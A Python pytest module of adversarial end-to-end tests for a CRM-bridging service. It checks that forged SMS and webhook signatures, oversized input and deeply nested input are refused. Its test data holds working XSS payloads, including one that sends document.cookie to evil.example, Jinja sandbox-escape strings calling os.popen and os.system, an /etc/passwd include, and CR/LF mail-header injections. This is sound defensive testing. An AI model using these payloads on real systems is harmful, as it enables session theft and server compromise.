"""Hostile input against a running deployment: forged SMS signatures and Creatio webhooks,
script-laden customer HTML, CR/LF in a rep's reply, oversized mail, attachments, SMS and
webhook bodies, and template sandbox escapes. Everything goes over loopback to the real
processes; what reached Creatio is read back over OData as a rep would see it."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import smtplib
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from casebridge.templates import TemplateError, Templates
from casebridge_creatio.sandbox import seed
from casebridge_email.trim_html import html_to_text
from deployment import (
    API_TOKEN,
    OUR_NUMBER,
    SMS_TOKEN,
    SUPPORT,
    WEBHOOK_TOKEN,
    Deployment,
    wait_for,
)
from hypothesis import given
from hypothesis import strategies as st

WEBHOOK_SECRET = "e2e-creatio-webhook-secret-7Hq2"
SECRET_HEADER = "X-Casebridge-Secret"
HTTP_MAX = 32_768
# Room for the stalling inputs below (100,000 nested <div>s are 1.1 MB).
MAIL_MAX = 1_500_000
ATTACHMENT_MAX = 30_000
SMS_MAX = 320
INBOUND = "/webhooks/sms/inbound"
# A template an attacker with write access to the override folder might try.
ESCAPE_TXT = "{{ ''.__class__.__mro__[1].__subclasses__() }}\n"
ESCAPE_HTML = "{{ cycler.__init__.__globals__.os.popen('id').read() }}\n"
ESCAPED_MARKERS = ("subclasses", "<class", "uid=", "__globals__", "_io.")
# What compose_reply writes on a reply to a customer's mail: nothing else may appear.
REPLY_HEADERS = {
    "from", "to", "reply-to", "subject", "date", "message-id", "in-reply-to", "references",
    "mime-version", "content-type",
}


@dataclass
class HostileDeployment(Deployment):
    """The standard deployment with a webhook secret both ends know (the Creatio sandbox's
    business processes send it), small limits, and a hostile template folder."""

    def _spawn(self, name: str, *args: str) -> subprocess.Popen[bytes]:
        if name == "creatio":
            args = (*args, "--webhook-secret", WEBHOOK_SECRET)
        return super()._spawn(name, *args)


def hostile_overrides() -> dict[str, Any]:
    return {
        "http": {"max_body_bytes": HTTP_MAX},
        "templates": {"dir": "templates"},
        "plugins": {
            "email": {"max_message_bytes": MAIL_MAX, "max_attachment_bytes": ATTACHMENT_MAX},
            "sms": {"max_body_chars": SMS_MAX},
            "creatio": {"webhook_secret": WEBHOOK_SECRET},
        },
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileDeployment]:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "templates" / "activity"
    folder.mkdir(parents=True)
    # Only SMS customer activities use these; email activities keep the packaged templates.
    (folder / "customer.sms.txt.j2").write_text(ESCAPE_TXT)
    (folder / "customer.sms.html.j2").write_text(ESCAPE_HTML)
    running = HostileDeployment(root, overrides=hostile_overrides()).start()
    try:
        yield running
    finally:
        running.stop()


# -- helpers ------------------------------------------------------------------------------


def mail(sender: str, subject: str, text: str | None = None, html: str | None = None,
         msg_id: str = "") -> EmailMessage:
    message = EmailMessage()
    message["From"] = f"Customer <{sender}>"
    message["To"] = SUPPORT
    message["Subject"] = subject
    message["Message-ID"] = f"<{msg_id or sender.replace('@', '.')}@customer.example>"
    if text is not None:
        message.set_content(text)
        if html is not None:
            message.add_alternative(html, subtype="html")
    elif html is not None:
        message.set_content(html, subtype="html")
    return message


def session_lines(d: Deployment) -> list[str]:
    listed = d.cli("sessions", "list", "--limit", "1000")
    assert listed.returncode == 0, listed.stderr
    return listed.stdout.splitlines()


def sessions_of(d: Deployment, who: str) -> list[str]:
    return [line for line in session_lines(d) if line.split()[-1:] == [who]]


def job_total(d: Deployment) -> int:
    listed = d.cli("outbox", "list", "--limit", "1")
    assert listed.returncode == 0, listed.stderr
    counts = listed.stdout.strip().splitlines()[-1]
    return sum(int(n) for n in re.findall(r"\b(\d+)\b", counts))


def case_of(d: Deployment, needle: str) -> dict[str, Any]:
    """The case whose description mentions ``needle`` as a word (waits for it): a link's
    expiry timestamp in another case's description may hold the same digits."""
    word = re.compile(rf"(?<!\w){re.escape(needle)}(?!\w)")

    def find() -> dict[str, Any] | None:
        return next((c for c in d.cases() if word.search(c.get("Symptoms") or "")), None)

    return wait_for(find, what=f"a case mentioning {needle!r}")


def twilio_signature(token: str, url: str, form: dict[str, str]) -> str:
    # Written here from Twilio's description, not imported: a forger's view of the scheme.
    signed = url + "".join(k + v for k, v in sorted(form.items()))
    digest = hmac.new(token.encode(), signed.encode(), hashlib.sha1).digest()
    return base64.b64encode(digest).decode()


def sms_form(sender: str, body: str, sid: str) -> dict[str, str]:
    return {"MessageSid": sid, "SmsSid": sid, "AccountSid": "AC" + "0" * 32, "From": sender,
            "To": OUR_NUMBER, "Body": body, "NumMedia": "0", "ApiVersion": "2010-04-01"}


def post_sms(d: Deployment, form: dict[str, str], signature: str | None) -> httpx.Response:
    headers = {} if signature is None else {"X-Twilio-Signature": signature}
    return httpx.post(d.bridge_url + INBOUND, data=form, headers=headers, timeout=30)


class _Markup(HTMLParser):
    """Every tag and attribute of an HTML body, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, [(k, v or "") for k, v in attrs]))

    handle_startendtag = handle_starttag


DANGEROUS_TAGS = {"script", "iframe", "frame", "svg", "math", "object", "embed", "form",
                  "meta", "base", "link", "style", "applet", "details", "input", "button"}


def script_problems(body: str) -> list[str]:
    """What in an activity body could run script in a rep's browser."""
    problems = [f"raw {s!r}" for s in ("<script", "javascript:", "vbscript:")
                if s in body.lower()]
    parser = _Markup()
    parser.feed(body)
    parser.close()
    for tag, attrs in parser.tags:
        if tag in DANGEROUS_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            squeezed = re.sub(r"[\s\x00-\x1f]+", "", value).lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=>")
            if any(s in squeezed for s in ("javascript:", "vbscript:", "data:", "expression(",
                                           "url(")):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


# -- forged SMS -----------------------------------------------------------------------------


def test_forged_sms_signatures_are_refused_and_store_nothing(hostile: HostileDeployment) -> None:
    url = hostile.bridge_url + INBOUND
    forger = "+14155550101"
    form = sms_form(forger, "forged: please refund me", "SM" + "f" * 32)
    forged = {
        "no signature": None,
        "empty signature": "",
        "garbage": "not-a-signature==",
        "another token": twilio_signature("some-other-auth-token", url, form),
        "another URL": twilio_signature(SMS_TOKEN, "https://attacker.example" + INBOUND, form),
        "status URL": twilio_signature(SMS_TOKEN, hostile.bridge_url + "/webhooks/sms/status",
                                       form),
        "other fields": twilio_signature(SMS_TOKEN, url, {**form, "Body": "harmless"}),
        "token as signature": SMS_TOKEN,
    }
    for what, signature in forged.items():
        answer = post_sms(hostile, form, signature)
        assert answer.status_code == 403, (what, answer.status_code, answer.text)
        assert "signature" in answer.text.lower() and SMS_TOKEN not in answer.text, what
    assert sessions_of(hostile, forger) == []

    # The same request signed as the provider signs it is taken: the refusals were the forgery.
    genuine = sms_form(forger, "genuine: hello", "SM" + "a" * 32)
    answer = post_sms(hostile, genuine, twilio_signature(SMS_TOKEN, url, genuine))
    assert answer.status_code == 200, answer.text
    assert len(sessions_of(hostile, forger)) == 1
    log = hostile.log("bridge")
    assert "X-Twilio-Signature" in log  # the refusals were logged...
    assert SMS_TOKEN not in log  # ...without the token


# -- forged Creatio webhooks ----------------------------------------------------------------


def test_creatio_webhooks_without_token_or_secret_are_refused(hostile: HostileDeployment) -> None:
    customer = "webhook.victim@customer.example"
    hostile.send_email(mail(customer, "Refund", "Refund order 9000, speak to a person please."))
    case = case_of(hostile, "order 9000")
    hostile.close_case(case["Id"])
    wait_for(lambda: any(" closed " in line for line in sessions_of(hostile, customer)),
             what="the session to close with its case")
    # Each accepted case_closed call queues a closing job of its own: a forgery that got
    # through would show in the job count.
    before = job_total(hostile)
    body = json.dumps({"event_type": "case_closed", "caseId": case["Id"],
                       "statusId": seed.STATUS_CLOSED}).encode()
    good = f"{hostile.bridge_url}/webhooks/creatio/{WEBHOOK_TOKEN}"
    calls = {
        "wrong token": (f"{hostile.bridge_url}/webhooks/creatio/not-the-token",
                        {SECRET_HEADER: WEBHOOK_SECRET}),
        "token prefix": (good[:-1], {SECRET_HEADER: WEBHOOK_SECRET}),
        "no secret header": (good, {}),
        "wrong secret": (good, {SECRET_HEADER: "guess"}),
        "empty secret": (good, {SECRET_HEADER: ""}),
        "secret in another header": (good, {"X-Secret": WEBHOOK_SECRET}),
        "secret as bearer": (good, {"Authorization": f"Bearer {WEBHOOK_SECRET}"}),
    }
    for what, (url, headers) in calls.items():
        answer = httpx.post(url, content=body, timeout=30,
                            headers={"Content-Type": "application/json", **headers})
        assert answer.status_code == 403, (what, answer.status_code, answer.text)
        assert WEBHOOK_TOKEN not in answer.text and WEBHOOK_SECRET not in answer.text, what
    no_token = httpx.post(f"{hostile.bridge_url}/webhooks/creatio/", content=body, timeout=30)
    assert no_token.status_code in (403, 404, 405)
    assert job_total(hostile) == before

    accepted = httpx.post(good, content=body, headers={SECRET_HEADER: WEBHOOK_SECRET},
                          timeout=30)
    assert accepted.status_code == 200 and accepted.json() == {"accepted": 1}, accepted.text
    assert job_total(hostile) == before + 1
    log = hostile.log("bridge")
    assert "webhook refused" in log
    assert WEBHOOK_SECRET not in log and WEBHOOK_TOKEN not in log


# -- script in customer HTML ----------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>x</title><script>alert('head')</script>
<style>body {{ background: url(javascript:alert(1)) }}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">
</head><body onload="alert('body')">
<p>{legit}</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>alert(2)</script>
<img src=x onerror=alert(3)><img src="x" OnError = "alert(4)" >
<a href="javascript:alert(5)">one</a> <a href="JaVaScRiPt:alert(6)">two</a>
<a href="&#106;&#97;vascript:alert(7)">three</a> <a href="jav&#x09;ascript:alert(8)">four</a>
<a href=" &#14; javascript:alert(9)">five</a> <a href="vbscript:msgbox(1)">six</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">seven</a>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>alert(10)</script>">
</iframe><svg onload=alert(11)><circle r=5 /></svg><svg><script>alert(12)</script></svg>
<math><mi xlink:href="javascript:alert(13)">m</mi></math>
<div style="width: expression(alert(14)); background-image: url('javascript:alert(15)')">d</div>
<object data="javascript:alert(16)"></object><embed src="javascript:alert(17)">
<form action="javascript:alert(18)"><input onfocus=alert(19) autofocus></form>
<details open ontoggle=alert(20)><summary>s</summary></details>
<p title="&quot;><script>alert(21)</script>">quoted</p>
<!--<script>alert(22)</script>--><![CDATA[<script>alert(23)</script>]]>
<a href="https://ok.example/" onclick="alert(24)" onmouseover='alert(25)'>ok link</a>
</body></html>"""


def test_script_html_in_customer_mail_never_reaches_an_activity_body(
    hostile: HostileDeployment,
) -> None:
    qp_html = EmailMessage()
    qp_html["From"] = "Customer <qp.html@customer.example>"
    qp_html["To"] = SUPPORT
    qp_html["Subject"] = "<script>alert('subject')</script> QP"
    qp_html["Message-ID"] = "<qp.html@customer.example>"
    qp_html.set_content(HOSTILE_HTML.format(legit="Router 4711 keeps rebooting. "
                                            "Can I speak to a person?"),
                        subtype="html", cte="quoted-printable")
    utf7 = EmailMessage()
    utf7["From"] = "Customer <utf7@customer.example>"
    utf7["To"] = SUPPORT
    utf7["Subject"] = "utf-7"
    utf7["Message-ID"] = "<utf7@customer.example>"
    utf7.set_payload(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-Parcel 6620 is lost. "
                     b"Please let me speak to a person.")
    utf7.set_type("text/html")
    utf7.set_param("charset", "utf-7")
    mails = {
        "Router 4711 keeps rebooting.": qp_html,
        "Invoice 3380 is wrong.": mail(
            "b64.html@customer.example", "base64 html",
            html=HOSTILE_HTML.format(legit="Invoice 3380 is wrong. I need to speak to a person.")),
        "Order 5512 never arrived.": mail(
            "alternative@customer.example", "alternative",
            text="Order 5512 never arrived. I want to speak to a person.",
            html=HOSTILE_HTML.format(legit="Order 5512 never arrived. I want to speak to a "
                                           "person.")),
        "Parcel 6620 is lost.": utf7,
        "I typed &lt;b&gt; and 8841": mail(
            "entities@customer.example", "entities",
            html="<p>I typed &lt;b&gt; and 8841 &lt;script&gt;alert(1)&lt;/script&gt; "
                 "&lt;img src=x onerror=alert(2)&gt;. Can I speak to a person?</p>"),
    }
    for message in mails.values():
        hostile.send_email(message)
    for legit, message in mails.items():
        number = re.search(r"\d{4}", legit).group(0)
        case = case_of(hostile, number)
        [activity] = wait_for(lambda case=case: hostile.activities(case["Id"]),
                              what=f"the activity of {message['From']}")
        body = activity["Body"]
        assert script_problems(body) == [], (message["From"], body)
        readable = re.sub(r"<[^>]*>", " ", body)
        assert number in readable and "person" in readable, body
    # The plain-text alternative is the one shown; its HTML twin's script is nowhere.
    alternative = case_of(hostile, "5512")
    [activity] = hostile.activities(alternative["Id"])
    assert "Order 5512 never arrived." in activity["Body"]
    assert "alert" not in activity["Body"] and "evil.example" not in activity["Body"]


junk = st.text(alphabet="\t\n\r \x00\x01\x0b\x0c\x0e\x1f", max_size=2)


@st.composite
def disguised_schemes(draw: st.DrawFn) -> str:
    """javascript:, vbscript: or data: as a browser would still read it: any case, controls
    and spaces between the letters and around them."""
    scheme = draw(st.sampled_from(["javascript:", "vbscript:", "data:"]))
    letters = [draw(st.sampled_from([c.lower(), c.upper()])) + draw(junk) for c in scheme]
    return draw(junk) + "".join(letters)


@given(scheme=disguised_schemes(), label=st.from_regex(r"[a-z]{1,12}", fullmatch=True))
def test_link_text_never_shows_a_script_url(scheme: str, label: str) -> None:
    # In-process: the HTML-to-text step behind every HTML-only activity body.
    href = scheme + "alert(1)"
    escaped = "".join(f"&#{ord(c)};" if ord(c) < 32 else c for c in href)
    text = html_to_text(f'<p>see <a href="{escaped}">{label}</a> and '
                        f'<a href="https://ok.example/{label}">ok</a></p>')
    squeezed = re.sub(r"[\x00-\x20]+", "", text).lower()
    assert "script:" not in squeezed and "data:" not in squeezed, text
    assert label in text and f"(https://ok.example/{label})" in text


# -- CR/LF in a rep's reply ---------------------------------------------------------------


def rep_activity(d: Deployment, case_id: str, title: str, body: str, *, html: bool,
                 sender: str) -> str:
    """A rep's outgoing e-mail activity added over OData, as Creatio's own UI would."""
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.0000000Z")
    with d.creatio() as client:
        answer = client.post("/0/odata/Activity", json={
            "Title": title, "StartDate": now, "DueDate": now, "TypeId": seed.ACTIVITY_TYPE_EMAIL,
            "ActivityCategoryId": seed.ACTIVITY_CATEGORY_EMAIL,
            "StatusId": seed.ACTIVITY_STATUS_COMPLETED,
            "PriorityId": seed.ACTIVITY_PRIORITY_MEDIUM,
            "MessageTypeId": seed.MESSAGE_OUTGOING, "CaseId": case_id,
            "OwnerId": seed.AGENT_CONTACT, "AuthorId": seed.AGENT_CONTACT,
            "Body": body, "IsHtmlBody": html, "Sender": sender,
        })
        assert answer.status_code in (200, 201), answer.text
        return str(answer.json()["Id"])


def test_crlf_in_a_reps_reply_cannot_add_mail_headers(hostile: HostileDeployment) -> None:
    customer = "crlf@customer.example"
    message = mail(customer, "placeholder", "Billing 7310 question, speak to a person please.")
    # An encoded word that decodes to CR/LF: the customer's subject is reused in the reply.
    message.replace_header("Subject",
                           "=?utf-8?q?Billing_7310=0D=0ABcc:_evil@x.example=0D=0AX-Evil:_1?=")
    hostile.send_email(message)
    case = case_of(hostile, "Billing 7310")
    evil = ("Thanks for waiting.\r\nBcc: evil@x.example\r\nTo: evil2@x.example\r\n"
            "Content-Type: text/html\r\n\r\n<script>alert(1)</script>Injected body\r\n.\r\n"
            "RCPT TO:<evil3@x.example>")
    rep_activity(hostile, case["Id"], "Re: x\r\nBcc: evil@x.example", evil, html=False,
                 sender="Alex\r\nBcc: evil@x.example <alex.agent@sandbox.test>")
    rep_activity(hostile, case["Id"], "Re: y\nCc: evil4@x.example",
                 "<p>Second answer.</p>\r\nBcc: evil@x.example<br>\nCc: evil4@x.example",
                 html=True, sender="Alex Agent <alex.agent@sandbox.test>")
    replies = wait_for(lambda: len(hostile.sink.to(customer)) >= 2 and hostile.sink.to(customer),
                       what="both replies in the customer's inbox")
    for reply in replies:
        names = [name.lower() for name in reply]
        assert set(names) == REPLY_HEADERS and len(names) == len(set(names)), names
        assert "\r" not in reply["Subject"] and "\n" not in reply["Subject"]
        assert str(reply["To"]) == customer
    texts = [r.get_body(("plain",)).get_content() for r in replies]
    assert any("Thanks for waiting." in t for t in texts)
    assert any("Second answer." in t for t in texts)
    for _, rcpts in hostile.sink.envelopes:
        assert not any("x.example" in r for r in rcpts), rcpts
    ours = [rcpts for m, (_, rcpts) in zip(hostile.sink.messages, hostile.sink.envelopes,
                                           strict=True) if m in replies]
    assert ours == [[customer], [customer]]


# -- oversized input ------------------------------------------------------------------------


def test_oversized_mail_is_refused_with_552_and_nothing_else_changes(
    hostile: HostileDeployment,
) -> None:
    earlier = session_lines(hostile)
    big = mail("big.sender@customer.example", "big", ("x" * 70 + "\n") * (MAIL_MAX // 70 + 10))
    data = big.as_bytes(policy=big.policy.clone(linesep="\r\n"))
    with smtplib.SMTP("127.0.0.1", hostile.smtp_port, timeout=30) as smtp:
        smtp.ehlo()
        assert smtp.esmtp_features["size"] == str(MAIL_MAX)  # the limit is advertised
        code, text = smtp.mail("big.sender@customer.example", [f"SIZE={len(data)}"])
        assert code == 552 and b"size" in text.lower(), text
        smtp.rset()
        # Undeclared, and declared with a lie: the server counts what actually arrives.
        for options in ([], ["SIZE=100"]):
            assert smtp.mail("big.sender@customer.example", options)[0] == 250
            assert smtp.rcpt(SUPPORT)[0] == 250
            code, text = smtp.data(data)
            assert code == 552 and b"too much mail data" in text.lower(), (code, text)
            smtp.rset()
        # The same connection still takes a normal message.
        smtp.send_message(mail("after.big@customer.example", "fine", "A normal message."))
    assert sessions_of(hostile, "big.sender@customer.example") == []
    assert len(sessions_of(hostile, "after.big@customer.example")) == 1
    assert set(earlier) <= set(session_lines(hostile))


def test_oversized_attachment_is_refused_and_noted_while_the_text_arrives(
    hostile: HostileDeployment,
) -> None:
    message = mail("attach@customer.example", "attachment",
                   "Photos of damage 2291 attached. Can I speak to a person?")
    message.add_attachment(b"\x89PNG" + b"\x00" * (ATTACHMENT_MAX + 500), maintype="image",
                           subtype="png", filename="huge-photo.png")
    message.add_attachment(b"small log line\n", maintype="text", subtype="plain",
                           filename="small.log")
    assert len(message.as_bytes()) < MAIL_MAX
    hostile.send_email(message)
    case = case_of(hostile, "damage 2291")
    [activity] = wait_for(lambda: hostile.activities(case["Id"]), what="the activity")
    body = activity["Body"]
    assert "Photos of damage 2291 attached." in body
    assert "huge-photo.png" in body and f"over the {ATTACHMENT_MAX}-byte attachment limit" in body
    files = wait_for(lambda: hostile.odata("CaseFile", **{"$filter": f"CaseId eq {case['Id']}"}),
                     what="the small attachment on the case")
    assert [f["Name"] for f in files] == ["small.log"]


def test_oversized_sms_body_is_refused_naming_the_limit(hostile: HostileDeployment) -> None:
    url = hostile.bridge_url + INBOUND
    sender = "+14155550102"
    form = sms_form(sender, "y" * (SMS_MAX + 1), "SM" + "b" * 32)
    answer = post_sms(hostile, form, twilio_signature(SMS_TOKEN, url, form))
    assert answer.status_code == 400, answer.text
    assert "max_body_chars" in answer.text and str(SMS_MAX) in answer.text
    assert sessions_of(hostile, sender) == []
    # Through the provider too, then a normal one from the same number goes through.
    assert hostile.send_sms(sender, "z" * (SMS_MAX + 50)).status_code < 500
    assert sessions_of(hostile, sender) == []
    hostile.send_sms(sender, "just a short question")
    wait_for(lambda: sessions_of(hostile, sender), what="the normal SMS's session")


def test_oversized_webhook_bodies_are_refused_with_413(hostile: HostileDeployment) -> None:
    customer = "handoff.big@customer.example"
    hostile.send_email(mail(customer, "api", "Shipping 4410 question."))
    [line] = wait_for(lambda: sessions_of(hostile, customer), what="the session")
    session_id = line.split()[0]
    oversized = b"{" + b" " * HTTP_MAX + b"}"
    targets = {
        "creatio": (f"/webhooks/creatio/{WEBHOOK_TOKEN}", {SECRET_HEADER: WEBHOOK_SECRET}),
        "sms": (INBOUND, {"Content-Type": "application/x-www-form-urlencoded"}),
        "handoff": (f"/api/sessions/{session_id}/handoff",
                    {"Authorization": f"Bearer {API_TOKEN}"}),
    }
    for what, (path, headers) in targets.items():
        declared = httpx.post(hostile.bridge_url + path, content=oversized, headers=headers,
                              timeout=30)
        streamed = httpx.post(hostile.bridge_url + path, content=iter([oversized[:10_000]] * 4),
                              headers=headers, timeout=30)
        for answer in (declared, streamed):
            assert answer.status_code == 413, (what, answer.status_code, answer.text)
            assert f"{HTTP_MAX}-byte limit" in answer.text, (what, answer.text)
    # Nothing was handed off; the API still works for a normal call.
    assert " case -" in sessions_of(hostile, customer)[0]
    answer = hostile.api("POST", f"/api/sessions/{session_id}/handoff",
                         json={"reason": "normal"})
    assert answer.status_code == 202, answer.text
    case_of(hostile, "Shipping 4410")


# -- templates ------------------------------------------------------------------------------


def test_template_sandbox_escape_fails_and_customer_braces_stay_literal(
    hostile: HostileDeployment,
) -> None:
    hostile.send_sms("+14155550103", "My modem 5150 is dead, let me speak to a person")
    failed = wait_for(
        lambda: [line for line in hostile.cli("outbox", "list").stdout.splitlines()
                 if "activity/customer.sms" in line],
        what="the failing job in the outbox")
    assert any("unsafe" in line for line in failed), failed
    hostile.send_email(mail("braces@customer.example", "braces",
                            "Total was {{ 7*7 }} and {% if true %}x{% endif %} {{ config }}. "
                            "Speak to a person about 6061."))
    case = case_of(hostile, "6061")
    [activity] = wait_for(lambda: hostile.activities(case["Id"]), what="the activity")
    assert "{{ 7*7 }}" in activity["Body"] and "{% if true %}x{% endif %}" in activity["Body"]
    assert "Total was 49" not in activity["Body"]
    assert "{{ 7*7 }}" in case["Symptoms"]
    for row in hostile.odata("Activity"):
        body = row.get("Body") or ""
        assert not any(marker in body for marker in ESCAPED_MARKERS), body
    # The SMS never became an activity: its text is in no row's title or body. (Not a
    # search of the whole JSON: ids, dates and signed links may contain "5150" by chance.)
    assert not [row for row in hostile.odata("Activity")
                if "modem 5150" in f"{row.get('Title')} {row.get('Body')}"]


ESCAPES = [
    ESCAPE_TXT,
    ESCAPE_HTML,
    "{{ lipsum.__globals__['os'].system('true') }}",
    "{{ self._TemplateReference__context }}",
    "{{ message.__class__.__init__.__globals__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ '{0.__class__.__mro__}'.format('') }}",
    "{{ 'a'.format_map }}{{ ''.__class__ }}",
    "{% set items = [] %}{{ items.append(1) }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ range(10 ** 9) | list | length }}",
    "{{ config.items() }}",
    "{% include '../../../../etc/passwd' %}",
    "{% import 'os' as os %}{{ os.system('true') }}",
]


@pytest.mark.parametrize("source", ESCAPES)
def test_template_escapes_fail_with_an_error_naming_the_template(tmp_path: Path,
                                                                 source: str) -> None:
    # In-process, the same Templates the runner builds from [templates] dir.
    (tmp_path / "activity").mkdir()
    (tmp_path / "activity" / "customer.sms.txt.j2").write_text(source)
    templates = Templates(tmp_path)
    with pytest.raises(TemplateError) as failed:
        templates.render("activity/customer.sms.txt.j2", message="hello")
    assert "activity/customer.sms.txt.j2" in str(failed.value)


# -- input built to stall the bridge ----------------------------------------------------------


def encoded_word_subject(count: int) -> str:
    """``count`` RFC 2047 encoded words, folded: quadratic work for the stdlib's parser."""
    words = [f"=?utf-8?q?w{i}?=" for i in range(count)]
    return "\r\n ".join(" ".join(words[i:i + 5]) for i in range(0, count, 5))


def raw_mail(sender: str, subject: str, body: str, subtype: str = "plain") -> bytes:
    message = mail(sender, "placeholder", body if subtype == "plain" else None,
                   body if subtype == "html" else None)
    data = message.as_bytes(policy=message.policy.clone(linesep="\r\n", max_line_length=0))
    # The folded Subject goes in as written: EmailMessage would re-encode it.
    return data.replace(b"Subject: placeholder", b"Subject: " + subject.encode(), 1)


@dataclass
class Stall:
    """What the bridge's other clients saw while it took one hostile message, and just
    before (the baseline: this machine's own latency under whatever else runs on it)."""

    healthz: list[float]  # seconds per /healthz answer
    smtp: list[float]  # seconds per other customer's whole SMTP transaction
    answer: tuple[int, bytes]  # the SMTP answer to the hostile message
    healthz_before: float = 0.0  # the slowest /healthz answer before it was sent
    smtp_before: float = 0.0  # one other customer's SMTP transaction before it was sent


def while_taking(d: HostileDeployment, sender: str, data: bytes) -> Stall:
    """Send ``data`` from ``sender`` and, until the server answers it, poll /healthz and run
    other customers' SMTP transactions, timing each."""
    answer: list[tuple[int, bytes]] = []
    done = threading.Event()

    def send() -> None:
        try:
            with smtplib.SMTP("127.0.0.1", d.smtp_port, timeout=120) as smtp:
                smtp.ehlo()
                smtp.mail(sender)
                smtp.rcpt(SUPPORT)
                answer.append(smtp.data(data))
        finally:
            done.set()

    healthz: list[float] = []
    others: list[float] = []
    with httpx.Client(base_url=d.bridge_url, timeout=60) as client:
        assert client.get("/healthz").status_code == 200  # the connection is open and warm
        before = []
        for _ in range(20):
            started = time.monotonic()
            client.get("/healthz")
            before.append(time.monotonic() - started)
        started = time.monotonic()
        d.send_email(mail(f"baseline.{sender}", "baseline", "A normal question."))
        smtp_before = time.monotonic() - started
        worker = threading.Thread(target=send)
        worker.start()
        polls = 0
        while polls == 0 or not done.is_set():  # at least once, however quick the message
            started = time.monotonic()
            assert client.get("/healthz").text == "ok"
            healthz.append(time.monotonic() - started)
            if polls % 20 == 1:
                other = mail(f"bystander{len(others)}.{sender}", "bystander",
                             "Just a normal question while someone else sends junk.")
                started = time.monotonic()
                d.send_email(other)
                others.append(time.monotonic() - started)
            polls += 1
            time.sleep(0.005)
        worker.join()
    assert answer, "the hostile message got no SMTP answer"
    return Stall(healthz, others, answer[0], max(before), smtp_before)


def assert_nobody_waited(stall: Stall) -> None:
    assert stall.answer[0] == 250, stall.answer
    # The other connections' answers, not the hostile message's, carry the timing bound:
    # /healthz within 100 ms and another customer's SMTP transaction within a second, over
    # what they took just before on this (shared, loaded) machine. Before the bounds and the
    # worker thread both waited ten seconds and more.
    assert stall.healthz, "no /healthz poll while the message was processed"
    slowest = max(stall.healthz)
    assert slowest < 0.1 + stall.healthz_before, (slowest, stall.healthz_before)
    for seconds in stall.smtp:
        assert seconds < 1.0 + stall.smtp_before, (seconds, stall.smtp_before)


@pytest.mark.slow
@pytest.mark.parametrize("words", [12_000, 20_000])
def test_a_subject_of_thousands_of_encoded_words_stalls_nobody(
    hostile: HostileDeployment, words: int
) -> None:
    sender = f"words{words}@customer.example"
    data = raw_mail(sender, encoded_word_subject(words),
                    f"Refund for order {words} please, speak to a person.")
    assert len(data) < 1_000_000
    stall = while_taking(hostile, sender, data)
    assert_nobody_waited(stall)
    # The message is kept, its subject read up to the bound, and the rep is told.
    case = case_of(hostile, f"order {words}")
    [activity] = wait_for(lambda: hostile.activities(case["Id"]), what="the activity")
    assert "header Subject is too long to read in full" in activity["Body"]
    assert case["Subject"].startswith("w0w1w2w3w4")


@pytest.mark.slow
@pytest.mark.parametrize("depth", [30_000, 100_000])
def test_html_nested_a_hundred_thousand_deep_stalls_nobody(
    hostile: HostileDeployment, depth: int
) -> None:
    sender = f"divs{depth}@customer.example"
    html = ("<html><body>" + "<div>" * depth + f"Parcel {depth} is lost, speak to a person."
            + "</div>" * depth + "</body></html>")
    data = raw_mail(sender, f"divs {depth}", html, subtype="html")
    stall = while_taking(hostile, sender, data)
    assert_nobody_waited(stall)
    case = case_of(hostile, f"Parcel {depth} is lost")
    [activity] = wait_for(lambda: hostile.activities(case["Id"]), what="the activity")
    body = activity["Body"]
    assert "the HTML part was too deeply nested to render" in body
    assert f"Parcel {depth} is lost, speak to a person." in body
    assert "<div><div><div>" not in body


def test_long_lines_are_taken_and_overlong_ones_refused_with_552(
    hostile: HostileDeployment,
) -> None:
    sender = "long.lines@customer.example"
    def written(subject: str, line: str) -> bytes:
        # By hand: EmailMessage would wrap a long line in quoted-printable.
        return (f"From: {sender}\r\nTo: {SUPPORT}\r\nSubject: {subject}\r\n"
                f"Message-ID: <{subject.replace(' ', '.')}@customer.example>\r\n\r\n"
                f"{line}\r\n").encode()

    # About 4,800 characters on one line.
    line = "Printer 8080 is broken. " * 200 + "Can I speak to a person?"
    data = written("long line", line)
    with smtplib.SMTP("127.0.0.1", hostile.smtp_port, timeout=30) as smtp:
        assert smtp.sendmail(sender, [SUPPORT], data) == {}
        overlong = written("overlong", "y" * 70_000)
        smtp.mail(sender)
        smtp.rcpt(SUPPORT)
        code, text = smtp.data(overlong)
        assert code == 552 and b"line longer than the 65536-byte limit" in text, (code, text)
    case = case_of(hostile, "Printer 8080 is broken.")
    assert case["Symptoms"].count("Printer 8080") >= 2


def test_deeply_nested_json_on_the_crm_webhook_is_a_400(hostile: HostileDeployment) -> None:
    url = f"{hostile.bridge_url}/webhooks/creatio/{WEBHOOK_TOKEN}"
    # Under the deployment's 32 KiB body limit, and far past the JSON parser's recursion.
    answer = httpx.post(url, content=b"[" * 30_000, timeout=30,
                        headers={SECRET_HEADER: WEBHOOK_SECRET,
                                 "Content-Type": "application/json"})
    assert answer.status_code == 400, answer.text
    assert "nested deeper than 64 levels" in answer.json()["error"]
